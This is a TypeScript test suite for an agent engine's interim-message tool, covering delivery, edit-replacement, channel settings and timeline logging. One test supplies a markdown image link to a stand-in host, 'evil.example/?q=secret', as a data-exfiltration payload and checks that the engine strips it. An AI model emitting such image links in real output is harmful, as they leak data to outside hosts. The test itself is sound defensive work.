import { deliverySend, type InterimKind, type TurnInput } from '#libs/contracts';
import { everyEntry } from '#libs/journal';
import { until } from '#libs/testing';
import type { EngineSettings } from '../../../env.js';
import { type EngineWorld, engineWorld, turnOf } from '../../../testing/engine-world.js';
import type { FakeAnswer } from '../../../testing/fake-services.js';
import { agentOf, turnsOf } from '../../../testing/turns-of.js';

const route = '/internal/adapter-calls/deliver';
const target = { app_id: 'app_1', channel_address: 'room-1', thread_id: 'th_1', reply_context: { at: 1 } } as const;

describe('a message that an agent sends before its answer', () => {
  let world: EngineWorld;
  let agent: string;
  let delivered: FakeAnswer[];

  const start = async (settings: Partial<EngineSettings> = {}): Promise<void> => {
    world = await engineWorld();
    await world.start({ GATEWAY_URL: world.services.url, TURN_INTERIM_MESSAGES: 2, ...settings });
    agent = await agentOf(world, { tools: ['send_interim'] });
    world.services.on(route, () => delivered.shift() ?? { delivery_id: 'dlv_more', state: 'delivered', error: null });
  };
  beforeEach(() => {
    delivered = ['dlv_1', 'dlv_2'].map((id) => ({ delivery_id: id, state: 'delivered', error: null }));
  });
  afterEach(() => world.close());

  const say = (text: string) => [{ name: 'send_interim', arguments: JSON.stringify({ text }) }];
  const run = async (kind: InterimKind | null, texts: string[], input: Partial<TurnInput> = {}) => {
    world.model.script(...texts.map(say), 'It is 42.');
    const reply = { ...target, ...(kind === null ? {} : { interim: kind }) };
    const turn = turnOf({ agent_id: agent }, { reply, ...input });
    const row = await turnsOf(world).run(turn);
    return { turn, row, results: await turnsOf(world).results(turn.turn_id) };
  };
  const sent = () => world.services.requests.filter(({ path }) => path === route).map(({ body }) => body);
  const answerOf = async (turnId: string) => {
    const offered = await until('the answer is offered', async () =>
      (await world.waiting(deliverySend)).find(({ turn_id }) => turn_id === turnId),
    );
    return offered.content;
  };

  it('goes out at once, where the answer goes, and the answer takes its place', async () => {
    await start();
    const { turn, row, results } = await run('edited', ['I am looking it up…']);
    expect(row).toMatchObject({ state: 'succeeded', reply_text: 'It is 42.' });
    expect(results).toEqual([{ sent: true, delivery_id: 'dlv_1' }]);
    expect(sent()).toEqual([
      {
        app_id: 'app_1',
        channel_address: 'room-1',
        message: { text: 'I am looking it up…', thread_id: 'th_1', reply_context: { at: 1 } },
        receipt_id: turn.receipt_id,
        idempotency_key: expect.stringContaining(`interim:${turn.turn_id}:`),
        ttl_seconds: 30,
      },
    ]);
    expect(await answerOf(turn.turn_id)).toMatchObject({ text: 'It is 42.', replaces: sent()[0]?.['idempotency_key'] });
  });

  it('takes the place of the one before it, as often as a turn may say something', async () => {
    await start();
    const { turn, results } = await run('edited', ['Looking…', 'Found it, reading…', 'Still reading…']);
    expect(sent().map(({ message }) => message)).toMatchObject([
      { text: 'Looking…' },
      { text: 'Found it, reading…', replaces: sent()[0]?.['idempotency_key'] },
    ]);
    expect(results[2]).toMatchObject({ error: { code: 'said_enough' } });
    expect(await answerOf(turn.turn_id)).toMatchObject({
      replaces: sent()[1]?.['idempotency_key'],
      replaces_earlier: [sent()[0]?.['idempotency_key']],
    });
  });

  it('stays where the channel cannot edit, is the only one of its turn, and the answer follows', async () => {
    await start();
    const { turn, results } = await run('once', ['Looking…', 'Still looking…']);
    expect(sent()).toHaveLength(1);
    expect(results[1]).toMatchObject({ error: { code: 'said_enough' } });
    expect((await answerOf(turn.turn_id))?.replaces).toBeUndefined();
  });

  it.each<[string, InterimKind | null, Partial<EngineSettings>]>([
    ['a channel shows only answers', null, {}],
    ['a channel cannot edit, where only edits are wanted', 'once', { TURN_INTERIM: 'edit_only' }],
    ['it is switched off', 'edited', { TURN_INTERIM: 'off' }],
  ])('is left out where %s, and the agent is asked to answer', async (_what, kind, settings) => {
    await start(settings);
    const { turn, results } = await run(kind, ['Looking…']);
    expect(sent()).toEqual([]);
    expect(results[0]).toMatchObject({ error: { code: 'channel_shows_no_interim' } });
    const isInPrompt = JSON.stringify(world.model.requests[0]?.messages[0]).includes('do not call send_interim');
    expect(isInPrompt).toBe(kind === null);
    expect((await answerOf(turn.turn_id))?.text).toBe('It is 42.');
  });

  it('is left out where another App of the installation asks: its loop would be counted anew', async () => {
    await start();
    const { results } = await run('edited', ['Looking…'], { reply: { ...target, interim: 'edited', hops: 1 } });
    expect(results[0]).toMatchObject({ error: { code: 'channel_shows_no_interim' } });
    expect(sent()).toEqual([]);
  });

  it('stays in each channel where that is set, and no answer takes its place', async () => {
    await start({ TURN_INTERIM: 'keep' });
    const { turn } = await run('edited', ['Looking…', 'Reading…']);
    expect(sent().map(({ message }) => (message as object)['replaces' as never])).toEqual([undefined, undefined]);
    expect((await answerOf(turn.turn_id))?.replaces).toBeUndefined();
  });

  it('that cannot be sent is no failure of the turn, and the answer takes its place should it have been', async () => {
    await start();
    delivered = [{ status: 503, code: 'unavailable' }];
    const { turn, row, results } = await run('edited', ['Looking…']);
    expect(results[0]).toMatchObject({ error: { code: 'not_sent' } });
    expect(row.state).toBe('succeeded');
    expect((await answerOf(turn.turn_id))?.replaces).toBe(sent()[0]?.['idempotency_key']);
  });

  it('has no picture that would call a stranger, is not sent in a rehearsal, and may be said to a stranger', async () => {
    await start();
    await run('edited', ['Looking ![x](https://evil.example/?q=secret)'], { trust: 'unknown' });
    expect(JSON.stringify(sent())).not.toContain('evil.example/?q');
    const { results } = await run('edited', ['Looking…'], { rehearsal: true });
    expect(results[0]).toMatchObject({ sent: false });
    expect(sent()).toHaveLength(1);
  });

  it('is in the timeline of its turn', async () => {
    await start();
    const { turn } = await run('edited', ['Looking…']);
    const noted = await until('the timeline has it', async () => {
      const { rows } = await world.pool.query(
        `SELECT detail FROM ${everyEntry} e WHERE receipt_id = $1 AND detail::text LIKE '%dlv_1%'`,
        [turn.receipt_id],
      );
      return rows[0];
    });
    expect(JSON.stringify(noted)).toContain('sent before the answer: dlv_1');
  });
});
